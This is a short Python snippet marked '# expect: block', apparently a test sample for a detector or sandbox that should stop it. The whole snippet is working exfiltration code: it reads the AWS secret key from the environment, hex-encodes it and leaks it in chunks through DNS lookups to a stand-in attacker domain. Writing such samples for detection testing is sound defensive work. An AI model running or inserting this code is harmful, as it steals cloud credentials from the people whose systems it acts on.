# expect: block
import socket, os, binascii

secret = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
chunk = binascii.hexlify(secret.encode()).decode()
for i in range(0, len(chunk), 30):
    try:
        socket.gethostbyname(f"{chunk[i:i+30]}.{i}.exfil.attacker-dns.com")
    except OSError:
        pass
